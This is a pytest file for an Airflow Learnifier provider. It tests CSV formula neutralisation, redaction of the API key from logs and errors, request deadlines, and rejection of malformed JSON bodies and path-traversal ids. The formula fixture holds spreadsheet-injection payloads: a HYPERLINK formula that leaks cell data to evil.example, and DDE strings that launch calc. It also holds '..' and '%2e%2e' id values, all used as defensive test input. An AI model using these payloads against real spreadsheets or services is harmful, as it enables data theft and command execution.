"""Hostile answers and secret hygiene: formula-safe CSV reports, no API key in any log,
a whole-attempt deadline (headers, body and redirect hops), and typed errors for every bad body.

Everything runs over real sockets: the simulator, or tiny loopback servers
(:mod:`tests.reliability.servers`). pytest-mock patches only seams (the secrets masker, fsync).
The deadline tests assert on what the server saw: where the client cut the connection.
"""

from __future__ import annotations

import base64
import csv
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_learnifier.exceptions import (
    LearnifierConflictError,
    LearnifierConnectionError,
    LearnifierNotFoundError,
    LearnifierResponseError,
    LearnifierValidationError,
)
from airflow_provider_learnifier.hooks.learnifier import LearnifierHook
from airflow_provider_learnifier.operators.reporting import LearnifierProgressReportOperator
from learnifier_simulator import LearnifierSimulator
from tests.reliability.servers import PNG, Answer, DribblingServer, RecordingServer
from tests.reliability.test_hostile_input import CONNECTION_VARIABLE, FAST, KEY, SECRET

# ---------------------------------------------------------------------- CSV formula injection

#: Text a spreadsheet would evaluate, one per way a formula can start.
FORMULAS = {
    "project_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "project_external_id": "+cmd|' /C calc'!A0",
    "user_external_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "user_email": "-2+3+cmd@example.com",
    "participation_external_id": "\t=1+1",
    "error_message": "\r=1+1",
}


@pytest.fixture
def formula_account(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[LearnifierSimulator, str]]:
    """A simulator whose one project holds hostile text in every text column of the report."""
    with LearnifierSimulator(key=KEY, secret=SECRET, seed="demo") as sim:
        monkeypatch.setenv(CONNECTION_VARIABLE, sim.connection_json(FAST))
        hook = LearnifierHook()
        project = hook.create_project(
            1001,
            name=FORMULAS["project_name"],
            design_id=101,
            external_id=FORMULAS["project_external_id"],
        )
        user_id = hook.create_user(
            primary_email=FORMULAS["user_email"], external_id=FORMULAS["user_external_id"]
        )
        participant_id = hook.add_participant(
            1001, project["id"], user_id=user_id, external_id=FORMULAS["participation_external_id"]
        )
        assert participant_id is not None
        sim.state.set_participant_error(participant_id, FORMULAS["error_message"])
        hook.close()
        yield sim, str(project["id"])


def _report(path: Path, project_id: str, **arguments: Any) -> list[dict[str, str]]:
    LearnifierProgressReportOperator(
        task_id="report", path=str(path), org_id=1001, project_ids=[project_id], **arguments
    ).execute({})
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(formula_account, tmp_path):
    """Before the fix every hostile value was written as it came (fails on the old writer)."""
    _, project_id = formula_account
    (row,) = _report(tmp_path / "report.csv", project_id)
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    # Numbers the report writes itself stay numbers; ids and timestamps are untouched.
    assert row["activities_completed"] == "0"
    assert row["activities_total"] == "5"
    assert row["completion_share"] == "0.0"
    assert row["project_id"] == project_id
    assert row["in_error"] == "true"


def test_the_formula_guard_can_be_turned_off_and_json_lines_are_unchanged(formula_account, tmp_path):
    _, project_id = formula_account
    (row,) = _report(tmp_path / "raw.csv", project_id, csv_formula_guard=False)
    for column, value in FORMULAS.items():
        assert row[column] == value, column
    target = tmp_path / "report.jsonl"
    LearnifierProgressReportOperator(
        task_id="report", path=str(target), org_id=1001, project_ids=[project_id]
    ).execute({})
    (line,) = target.read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    for column, value in FORMULAS.items():
        assert record[column] == value, column
    assert record["activities_total"] == 5


# ---------------------------------------------------------------------- the API key in logs and errors


def _everything_about(error: BaseException) -> str:
    """The text of an exception and of every exception it chains (cause, context and args)."""
    texts, stack, seen = [], [error], set()
    while stack:
        current = stack.pop()
        if id(current) in seen:
            continue
        seen.add(id(current))
        texts += [str(current), repr(current), repr(current.args), repr(vars(current))]
        stack += [item for item in (current.__cause__, current.__context__) if item is not None]
        stack += [arg for arg in current.args if isinstance(arg, BaseException)]
    return "\n".join(texts)


def _free_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _point_at(monkeypatch: pytest.MonkeyPatch, host: str, **extra: Any) -> None:
    connection = {"conn_type": "learnifier", "host": host, "login": KEY, "password": SECRET}
    monkeypatch.setenv(CONNECTION_VARIABLE, json.dumps(connection | {"extra": FAST | extra}))


BASIC = base64.b64encode(f"{KEY}:{SECRET}".encode()).decode("ascii")
NEVER_SHOWN = (KEY, SECRET, BASIC)


def _assert_nothing_shown(*texts: str) -> None:
    for text in texts:
        for credential in NEVER_SHOWN:
            assert credential not in text, f"a credential ({credential[:4]}...) is shown"


@pytest.fixture
def debug_logs(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    caplog.set_level(logging.DEBUG)
    return caplog


def test_a_failed_picture_chains_no_exception_holding_the_key(monkeypatch, debug_logs, capfd):
    """Before, ``raise ... from err`` chained requests' error, whose text has ``?key=``."""
    _point_at(monkeypatch, f"http://127.0.0.1:{_free_port()}")
    with pytest.raises(LearnifierConnectionError) as caught:
        LearnifierHook().get_user_picture("u1")
    assert caught.value.reached_server is False
    out, err = capfd.readouterr()
    _assert_nothing_shown(_everything_about(caught.value), debug_logs.text, out, err)


def test_a_picture_refused_by_tls_verification_shows_no_key(monkeypatch, debug_logs, capfd):
    """Before, the TLS error's message repeated requests' text with the URL and its ``?key=``."""
    import certifi

    with LearnifierSimulator(key=KEY, secret=SECRET, seed="demo") as sim:
        _point_at(monkeypatch, sim.base_url, verify=certifi.where())
        with pytest.raises(LearnifierConnectionError, match="failed TLS verification") as caught:
            LearnifierHook().get_user_picture("u1")
    out, err = capfd.readouterr()
    _assert_nothing_shown(_everything_about(caught.value), debug_logs.text, out, err)


def test_urllib3_debug_lines_of_the_picture_request_show_no_key(monkeypatch, debug_logs, capfd, mocker):
    """Before, urllib3's DEBUG line held the whole URL, ``?key=<API key>``."""
    from airflow_provider_learnifier.hooks._transport import redaction

    masked = mocker.patch.object(redaction, "mask_secret")
    with RecordingServer(lambda seen: Answer(200, {"Content-Type": "image/png"}, PNG)) as server:
        _point_at(monkeypatch, server.base_url)
        hook = LearnifierHook()
        assert hook.get_user_picture("u1") == PNG
        settings_repr = repr(hook.settings)
    (seen,) = server.requests_seen
    assert seen.path == f"/users/u1/pic?key={KEY}", "the key must still reach the API"
    url_lines = [
        r for r in debug_logs.records if r.name.startswith("urllib3") and "/users/u1/pic" in r.getMessage()
    ]
    assert url_lines, "urllib3 logs the request at DEBUG: the check would prove nothing"
    assert all("key=***" in record.getMessage() for record in url_lines)
    out, err = capfd.readouterr()
    _assert_nothing_shown(debug_logs.text, out, err, settings_repr)
    # The key is registered with Airflow's secrets masker, like the secret and the Basic value.
    assert {call.args[0] for call in masked.call_args_list} >= {KEY, SECRET, f"Basic {BASIC}"}


# ---------------------------------------------------------------------- a whole-request deadline

#: A good answer, if it ever arrives whole: spaces pad it to 200 bytes.
DRIBBLED = b'{"orgUnits": []}'.ljust(200)
#: How long to wait for the server to notice a cut connection; no dribble below finishes within it.
GENEROUS = 30.0

CALLS = [
    pytest.param(lambda hook: hook.list_org_units(), 1, id="GET retried once"),
    pytest.param(lambda hook: hook.create_user(primary_email="d@example.com"), 0, id="POST not repeated"),
    pytest.param(lambda hook: hook.get_user_picture("u1"), 1, id="picture"),
]


def _eventually(condition: Any, what: str) -> None:
    """Wait until ``condition()`` holds: the server notices a closed connection at its next byte."""
    import time

    give_up = time.monotonic() + GENEROUS
    while not condition():
        assert time.monotonic() < give_up, what
        time.sleep(0.01)


def _assert_cut_at_the_deadline(
    server: DribblingServer, caught: pytest.ExceptionInfo[LearnifierConnectionError], attempts: int, part: str
) -> None:
    error = caught.value
    assert error.reached_server is True
    assert error.may_have_been_applied is True, "a write cut off may have been applied: read before resending"
    assert server.requests_seen == attempts
    # Each attempt's connection was shut by the client while the server was still sending that part.
    _eventually(lambda: len(server.cuts) == attempts, f"the server saw {attempts} connection(s) cut")
    assert server.cuts == [part] * attempts


#: How each part of the answer is dribbled, and the deadline that cuts it: each byte comes well
#: within the 1 s read timeout, and the whole part would take far longer than the deadline.
DRIBBLES = {
    # Before, the deadline was checked only once the headers were in: a status line and headers
    # sent a byte every 0.5 s held every attempt for about 40 s.
    "head": ({"head_interval": 0.5}, 0.6),
    # Before the deadline, only each socket read had a timeout: the body arrived whole.
    "body": ({"interval": 0.05}, 0.3),
}


@pytest.mark.parametrize("part", DRIBBLES)
@pytest.mark.parametrize(("call", "retries"), CALLS)
def test_an_answer_dribbling_in_cannot_hold_an_attempt_past_its_deadline(
    monkeypatch, hook_waits, debug_logs, capfd, call, retries, part
):
    dribble, deadline = DRIBBLES[part]
    with DribblingServer(DRIBBLED, **dribble) as server:
        _point_at(monkeypatch, server.base_url, timeout=[1, 1], request_deadline=deadline)
        with pytest.raises(LearnifierConnectionError, match=f"request deadline of {deadline:g} s") as caught:
            call(LearnifierHook())
        _assert_cut_at_the_deadline(server, caught, 1 + retries, part)
    assert len(hook_waits) == retries
    out, err = capfd.readouterr()
    _assert_nothing_shown(_everything_about(caught.value), debug_logs.text, out, err)


def test_the_deadline_spans_every_redirect_hop(monkeypatch, hook_waits, debug_logs, capfd):
    """Each hop's headers take about 0.25 s, within the read timeout and, alone, within the
    0.6 s deadline: a deadline restarting per hop would follow all six redirects to the picture."""
    with DribblingServer(PNG, head_interval=0.003, redirects=6) as server:
        _point_at(monkeypatch, server.base_url, timeout=[1, 1], request_deadline=0.6, max_retries=0)
        with pytest.raises(LearnifierConnectionError, match=r"request deadline of 0\.6 s") as caught:
            LearnifierHook().get_user_picture("u1")
        assert "/hop/6" not in server.paths_seen, "the last hop was reached: the deadline restarted per hop"
        assert server.paths_seen[0] == f"/users/u1/pic?key={KEY}"
        _eventually(lambda: len(server.cuts) == 1, "the server saw the attempt cut")
        assert server.cuts == ["head"]
    assert caught.value.reached_server is True
    out, err = capfd.readouterr()
    _assert_nothing_shown(_everything_about(caught.value), debug_logs.text, out, err)


def test_a_redirect_loop_is_followed_a_bounded_number_of_hops(monkeypatch, hook_waits, debug_logs, capfd):
    from airflow_provider_learnifier.hooks.learnifier import MAX_REDIRECTS

    with DribblingServer(PNG, redirects=1000) as server:
        _point_at(monkeypatch, server.base_url)
        with pytest.raises(
            LearnifierResponseError, match=f"redirected more than {MAX_REDIRECTS} times"
        ) as caught:
            LearnifierHook().get_user_picture("u1")
    assert server.requests_seen == MAX_REDIRECTS + 1, "followed MAX_REDIRECTS hops, and not retried"
    assert hook_waits == []
    out, err = capfd.readouterr()
    _assert_nothing_shown(_everything_about(caught.value), debug_logs.text, out, err)


def test_an_answer_within_its_deadline_is_read_whole(monkeypatch):
    body = json.dumps({"orgUnits": [{"id": n} for n in range(3)]}).encode()
    with DribblingServer(body, interval=0.001, head_interval=0.001, redirects=0) as server:
        _point_at(monkeypatch, server.base_url, request_deadline=60)
        assert LearnifierHook().list_org_units() == [{"id": 0}, {"id": 1}, {"id": 2}]
        assert server.cuts == []


def test_over_tls_an_attempt_cut_at_its_deadline_is_a_timeout_not_a_tls_failure(monkeypatch, hook_waits):
    """Cutting a TLS connection makes the TLS layer fail; that must not read as a certificate
    problem (which would say the request never reached Learnifier, so a POST could be repeated)."""
    with LearnifierSimulator(key=KEY, secret=SECRET, seed="demo") as sim:
        monkeypatch.setenv(CONNECTION_VARIABLE, sim.connection_json(FAST | {"request_deadline": 0.5}))
        hook = LearnifierHook()
        hook.list_org_units()  # the pooled connection is used again below: watched from its reuse
        sim.latency = 2.0
        with pytest.raises(LearnifierConnectionError, match=r"request deadline of 0\.5 s") as caught:
            hook.create_user(primary_email="slow@example.com")
        sim.latency = 0.0
    assert caught.value.reached_server is True
    assert "TLS" not in str(caught.value)
    assert hook_waits == [], "a POST that may have been applied is not repeated"


def test_one_watchdog_thread_keeps_the_deadlines_of_concurrent_attempts(monkeypatch):
    """Eight threads at once, each attempt dribbled past its deadline: all cut, by one thread."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    with DribblingServer(DRIBBLED, head_interval=0.2) as server:
        _point_at(monkeypatch, server.base_url, timeout=[1, 1], request_deadline=0.5, max_retries=0)
        hook = LearnifierHook(pool_maxsize=8)

        def call(_: int) -> BaseException | None:
            try:
                hook.list_org_units()
            except LearnifierConnectionError as error:
                return error
            return None

        with ThreadPoolExecutor(max_workers=8) as pool:
            errors = list(pool.map(call, range(8)))
        assert all(error is not None and "request deadline" in str(error) for error in errors)
        _eventually(lambda: len(server.cuts) == 8, "the server saw every attempt cut")
    watchdogs = [thread for thread in threading.enumerate() if thread.name == "learnifier-request-deadlines"]
    assert len(watchdogs) == 1


def test_finished_attempts_do_not_pile_up_in_the_watchdog(monkeypatch):
    """Attempts that finish long before their deadline (all of them, normally) leave the heap."""
    from airflow_provider_learnifier.hooks._transport.deadline import WATCHDOG

    body = json.dumps({"orgUnits": []}).encode()
    with DribblingServer(body, interval=0) as server:
        _point_at(monkeypatch, server.base_url)
        hook = LearnifierHook()
        for _ in range(300):
            hook.list_org_units()
    assert server.requests_seen == 300
    assert len(WATCHDOG._heap) < 150, "finished attempts are dropped from the heap now and then"


@pytest.mark.parametrize(
    ("extra", "expected"),
    [({}, 70.0), ({"timeout": [2, 3]}, 5.0), ({"request_deadline": "12.5"}, 12.5)],
)
def test_the_deadline_defaults_to_connect_plus_read_timeout(monkeypatch, extra, expected):
    _point_at(monkeypatch, "http://127.0.0.1:1", **extra)
    assert LearnifierHook().settings.deadline == expected


@pytest.mark.parametrize("value", [0, -1, "soon", True, "inf"])
def test_an_unusable_deadline_is_refused(monkeypatch, value):
    _point_at(monkeypatch, "http://127.0.0.1:1", request_deadline=value)
    with pytest.raises(ValueError, match="request_deadline"):
        LearnifierHook().settings  # noqa: B018 - reading the settings is the check


# ---------------------------------------------------------------------- typed errors for every bad body

ORG, PROJECT = 1001, 2001
PARTICIPANTS = f"/orgunits/{ORG}/projects/{PROJECT}/participants"

BAD_BODIES = {
    "100,000 nested arrays": b"[" * 100_000,
    "NaN": b'{"orgUnits": [{"id": NaN}]}',
    "Infinity": b'{"orgUnits": [{"id": 1, "size": Infinity}]}',
    "-Infinity": b'{"orgUnits": [{"id": 1, "size": -Infinity}]}',
    "invalid UTF-8": b'{"orgUnits": [{"id": "\xff\xfe"}]}',
    "items that are not objects": b'{"orgUnits": [1, "two", null]}',
}


@pytest.fixture
def sim(monkeypatch: pytest.MonkeyPatch) -> Iterator[LearnifierSimulator]:
    with LearnifierSimulator(key=KEY, secret=SECRET, seed="demo") as simulator:
        monkeypatch.setenv(CONNECTION_VARIABLE, simulator.connection_json(FAST))
        yield simulator


@pytest.mark.parametrize("body", list(BAD_BODIES.values()), ids=list(BAD_BODIES))
def test_every_bad_body_is_a_response_error(sim, hook_waits, body):
    """Before, deep nesting raised a bare RecursionError, NaN/Infinity were accepted, and
    ``orgUnits`` items were not checked to be objects."""
    sim.inject(200, method="GET", path="/orgunits", body=body, times=2)
    with pytest.raises(LearnifierResponseError) as caught:
        LearnifierHook().list_org_units()
    assert caught.value.path == "/orgunits"
    assert len(caught.value.args[0]) < 1_000, "the error must not repeat the body"


def test_a_deeply_nested_error_body_still_gives_the_typed_error(sim):
    """Before, decoding the 4xx body raised RecursionError instead of the error for its status."""
    sim.inject(422, method="POST", path="/users", body=b"[" * 100_000)
    with pytest.raises(LearnifierValidationError, match="answered 422"):
        LearnifierHook().create_user(primary_email="deep@example.com")


def test_participations_that_are_not_objects_are_a_response_error(sim):
    user_id = LearnifierHook().create_user(primary_email="p@example.com")
    path = f"/users/{user_id}/projectParticipations"
    sim.inject(200, method="GET", path=path, body=b'[{"projectId": 2001}, "x"]')
    with pytest.raises(LearnifierResponseError, match="answered str where a JSON object"):
        LearnifierHook().list_user_participations(user_id)


def test_a_deeply_nested_participant_list_fails_the_enrollment_with_a_response_error(sim):
    """Before, the RecursionError escaped the operator's handling and aborted the run untyped."""
    from unittest import mock

    from airflow_provider_learnifier.operators.participants import LearnifierEnrollOperator

    sim.inject(200, method="GET", path=PARTICIPANTS, body=b"[" * 100_000, times=2)
    operator = LearnifierEnrollOperator(
        task_id="enroll", roster=[{"email": "a@example.com"}], org_id=ORG, project_id=PROJECT
    )
    with pytest.raises(LearnifierResponseError, match="list_participants"):
        operator.execute({"ti": mock.MagicMock()})


@pytest.mark.parametrize(
    "location",
    [
        f"{PARTICIPANTS}/..",
        f"{PARTICIPANTS}/%2e%2e",
        f"{PARTICIPANTS}/%2E%2E/",
        "/",
        f"{PARTICIPANTS}/a%2Fb",
        f"{PARTICIPANTS}/x%00",
    ],
)
def test_an_unusable_id_in_a_location_header_is_a_response_error(location):
    """Before, ``/..`` and ``/%2e%2e`` gave participant id ``..`` (or ``%2e%2e``)."""
    answer = Answer(201, {"Location": location})
    with RecordingServer(lambda seen: answer) as server, pytest.MonkeyPatch.context() as patch:
        _point_at(patch, server.base_url)
        with pytest.raises(LearnifierResponseError, match="Location header that names no usable"):
            LearnifierHook().add_participant(ORG, PROJECT, email="loc@example.com")


def test_a_usable_location_id_is_percent_decoded():
    answer = Answer(201, {"Location": f"{PARTICIPANTS}/p%C3%BC-1/"})
    with RecordingServer(lambda seen: answer) as server, pytest.MonkeyPatch.context() as patch:
        _point_at(patch, server.base_url)
        assert LearnifierHook().add_participant(ORG, PROJECT, email="loc@example.com") == "pü-1"


@pytest.mark.parametrize(
    ("body", "headers"),
    [
        (b'{"userId": ".."}', {}),
        (b'{"userId": "a/b"}', {}),
        (b"{}", {"Location": "/users/%2e%2e"}),
    ],
    ids=["dot-dot userId", "slash userId", "dot-dot Location"],
)
def test_a_conflict_naming_an_unusable_id_names_none(body, headers):
    answer = Answer(409, {"Content-Type": "application/json", **headers}, body)
    with RecordingServer(lambda seen: answer) as server, pytest.MonkeyPatch.context() as patch:
        _point_at(patch, server.base_url)
        with pytest.raises(LearnifierConflictError) as caught:
            LearnifierHook().create_user(primary_email="c@example.com")
    assert caught.value.existing_id is None


@pytest.mark.parametrize("user_id", ["..", "a/b", " "])
def test_create_user_refuses_an_unusable_user_id(sim, user_id):
    sim.inject(200, method="POST", path="/users", body=json.dumps({"userId": user_id}).encode())
    with pytest.raises(LearnifierResponseError, match="without a usable userId"):
        LearnifierHook().create_user(primary_email="u@example.com")


# ---------------------------------------------------------------------- smaller ones


def test_a_huge_api_message_is_capped_in_the_error(sim):
    """Before, a 200 KB message was copied whole into the error (and every failed person's reason)."""
    huge = "x" * 200_000
    body = json.dumps({"code": 422, "field": "primaryEmail", "message": huge}).encode()
    sim.inject(422, method="POST", path="/users", body=body)
    with pytest.raises(LearnifierValidationError) as caught:
        LearnifierHook().create_user(primary_email="big@example.com")
    assert len(str(caught.value)) < 1_000
    assert "(200000 characters)" in str(caught.value)
    assert caught.value.api_message is not None and len(caught.value.api_message) < 600


def test_a_later_report_removes_stale_temporaries_of_its_own_naming(formula_account, tmp_path):
    """Before, a killed run's ``.report.csv.<hex>.tmp`` (with personal data) stayed for ever."""
    import os

    _, project_id = formula_account
    stale = tmp_path / f".report.csv.{'a' * 32}.tmp"
    fresh = tmp_path / f".report.csv.{'b' * 32}.tmp"
    other = tmp_path / f".other.csv.{'c' * 32}.tmp"
    for path in (stale, fresh, other):
        path.write_text("email\nsomeone@example.com\n")
    two_hours_ago = os.stat(stale).st_mtime - 7200
    os.utime(stale, (two_hours_ago, two_hours_ago))
    os.utime(other, (two_hours_ago, two_hours_ago))
    _report(tmp_path / "report.csv", project_id)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([fresh.name, other.name, "report.csv"])


def test_the_report_is_fsynced_before_the_rename(formula_account, tmp_path, mocker):
    """Before, no fsync preceded the rename: a crash could leave an empty report in place."""
    import os

    _, project_id = formula_account
    events: list[str] = []
    real_fsync, real_rename = os.fsync, os.rename
    mocker.patch("os.fsync", side_effect=lambda fd: (events.append("fsync"), real_fsync(fd))[1])
    mocker.patch("os.rename", side_effect=lambda *a, **k: (events.append("rename"), real_rename(*a, **k))[1])
    _report(tmp_path / "report.csv", project_id)
    assert "fsync" in events and "rename" in events
    assert events.index("fsync") < events.index("rename")


@pytest.mark.parametrize(
    ("text", "emails"),
    [
        ("email,first_name\ra1@example.com,A\ra2@example.com,B", ["a1@example.com", "a2@example.com"]),
        ("email", []),
        ("Email;First Name", []),
    ],
    ids=["CR-only line endings", "only a header", "only a header with semicolons"],
)
def test_roster_text_is_not_taken_for_a_file_path(text, emails):
    """Before, these were read as file paths ("the roster file ... does not exist")."""
    from airflow_provider_learnifier.operators._roster import load_rows

    assert [row["email"] for row in load_rows(text)] == emails


@pytest.mark.parametrize("text", ["people.csv", "/data/people.json", "roster"])
def test_a_roster_path_is_still_a_path(text):
    from airflow_provider_learnifier.exceptions import LearnifierInputError
    from airflow_provider_learnifier.operators._roster import load_rows

    with pytest.raises(LearnifierInputError, match="does not exist"):
        load_rows(text)


def test_ids_longer_than_255_characters_are_refused_before_any_request(sim):
    """Before, ids had no length limit (the spec's ids are at most 255 characters)."""
    before = sim.request_count
    with pytest.raises(ValueError, match="more than the 255") as caught:
        LearnifierHook().get_user("u" * 256)
    assert len(str(caught.value)) < 300
    assert sim.request_count == before
    with pytest.raises(LearnifierNotFoundError):
        LearnifierHook().get_user("u" * 255)
